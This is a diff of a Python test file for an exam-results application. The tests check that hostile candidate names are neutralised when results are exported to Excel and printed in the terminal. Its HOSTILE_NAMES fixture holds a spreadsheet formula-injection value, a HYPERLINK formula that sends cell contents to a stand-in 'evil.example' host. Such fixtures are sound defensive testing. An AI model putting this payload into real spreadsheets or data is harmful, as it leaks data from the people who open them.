@@ -20,9 +20,11 @@ from exam_center.demo import run as demo_run
 from exam_center.demo import synth
 from exam_center.models import Candidate
 from exam_center.safe_text import csv_text, for_terminal, formula_like
-from exam_center.services import exporting, finalising
+from exam_center.services import exporting
 from exam_center.services.workspace import Workspace, open_workspace
 from exam_center.settings import Settings
+from tests.cli_accounts import cli_env
+from tests.signing import actor, reopen_by_two
 
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点击领奖")',
@@ -65,6 +67,7 @@ def workspace(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Worksp
         wb.save(path)
 
     ws = open_workspace(Settings(workspace=base / "ws"))
+    ws.actor = actor("t")
     with pytest.MonkeyPatch.context() as mp:
         mp.setattr(demo_run, "EXAMPLE", toml)
         mp.setattr(synth, "roster_rows", hostile_rows)
@@ -120,13 +123,13 @@ def test_a_name_with_esc_is_exported_and_printed_escaped(
     workspace: tuple[Workspace, Path],
 ) -> None:
     ws, base = workspace
+    with ws.session() as s:  # finalised results cannot change: re-opened first
+        reopen_by_two(s, reason="测试：改名后重新导出")
     with ws.session() as s:
         # As an older version stored it (imports now refuse control characters).
         candidate = s.exec(select(Candidate).where(Candidate.name == "+1")).one()
         candidate.name = ESC_NAME
         s.add(candidate)
-    with ws.session() as s:
-        finalising.reopen(session=s, reason="测试：改名后重新导出")
     with ws.session() as s:
         done = exporting.export_results(base / "esc" / "成绩.xlsx", session=s)
     book = openpyxl.load_workbook(done.workbook)
@@ -136,7 +139,7 @@ def test_a_name_with_esc_is_exported_and_printed_escaped(
         [sys.executable, "-m", "exam_center", "--workspace", str(ws.path), "results"],
         capture_output=True,
         text=True,
-        env={"COLUMNS": "200", "PATH": "/usr/bin:/bin"},
+        env=cli_env(ws, columns="200"),
     )
     assert out.returncode == 0, out.stderr
     assert "\x1b" not in out.stdout
